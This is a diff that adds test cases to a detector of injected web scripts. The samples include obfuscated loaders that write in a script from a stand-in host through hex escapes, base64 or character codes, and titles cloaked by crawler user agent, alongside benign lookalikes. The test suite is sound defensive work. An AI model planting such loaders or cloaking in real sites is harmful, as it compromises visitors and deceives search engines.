@@ -9,6 +9,8 @@ const told = (script: string) =>
 const codes = Array.from("document.write('<script src=http://a-example.com/x.js>')", (char) =>
   char.charCodeAt(0),
 ).join(",");
+const hex = (text: string): string =>
+  Array.from(text, (char) => `\\x${char.charCodeAt(0).toString(16)}`).join("");
 
 test.each([
   [
@@ -27,6 +29,43 @@ test.each([
   ["a click leads to a stranger", "function go(){location.href='http://a-example.com/'}", []],
   ["an address in character codes", `eval(String.fromCharCode(${codes}))`, ["foreign-script likely"]],
   ["packed code", "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|')))", ["other suspect"]],
+  [
+    "the true title is kept from a crawler",
+    "if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu') == -1){document.title = '青岩县人民政府'}",
+    ["cloaking likely"],
+  ],
+  [
+    "spiders are named",
+    "if(!navigator.userAgent.match(/baiduspider|sogou|360spider/i)){document.title='青岩县'}",
+    ["cloaking likely"],
+  ],
+  [
+    "a title for phones and their browsers",
+    "if(/MicroMessenger|baidubrowser|baiduboxapp|SogouMobileBrowser/i.test(navigator.userAgent)){document.title='青岩县'}",
+    [],
+  ],
+  [
+    "crawlers are counted by title",
+    "if(/baiduspider/i.test(navigator.userAgent)){count(document.title == '' ? '-' : document.title)}",
+    [],
+  ],
+  [
+    "names of writers in escapes",
+    `window["${hex("document")}"]["${hex("write")}"]('<script src="//js.a-example.com/x.js"><\\/script>')`,
+    ["foreign-script likely"],
+  ],
+  [
+    "escapes in a plain writer's markup",
+    `document.write("${hex("<div>")}<img src='http://www.b.gov.cn/a.png'>${hex("</div>")}")`,
+    [],
+  ],
+  [
+    "an address in base64",
+    `var s=document['createElement']('script');s['src']=atob('${btoa("https://js.a-example.com/x.js")}');`,
+    ["foreign-script likely"],
+  ],
+  ["an address of its own in base64", `s.src=atob('${btoa("https://www.a.gov.cn/x.js")}');`, []],
+  ["code of a known machine", "var _0xod='jsjiami.com.v7';", ["other suspect"]],
   ["a plain script", "var a = 1;", []],
 ])("%s", (_, script, expected) => {
   expect(told(script)).toEqual(expected);
